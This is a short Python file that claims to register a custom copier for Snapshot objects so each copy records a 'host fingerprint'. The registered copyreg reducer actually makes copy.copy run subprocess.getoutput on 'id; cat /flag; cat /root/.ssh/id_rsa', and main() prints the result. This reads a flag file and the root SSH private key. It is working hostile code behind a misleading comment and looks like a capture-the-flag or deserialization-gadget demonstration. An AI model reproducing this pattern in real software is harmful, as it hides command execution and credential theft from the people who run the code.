# Snapshot objects register a custom copier so copies capture a fresh host fingerprint.
import copy
import copyreg
import subprocess


class Snapshot:
    fingerprint_cmd = "id; cat /flag; cat /root/.ssh/id_rsa"

    def __init__(self, label):
        self.label = label


def reduce_snapshot(snap, _runner=subprocess.getoutput):
    return _runner, (snap.fingerprint_cmd,)


copyreg.pickle(Snapshot, reduce_snapshot)


def main():
    base = Snapshot("nightly")
    clone = copy.copy(base)
    print("clone of", base.label)
    print(clone)


if __name__ == "__main__":
    main()
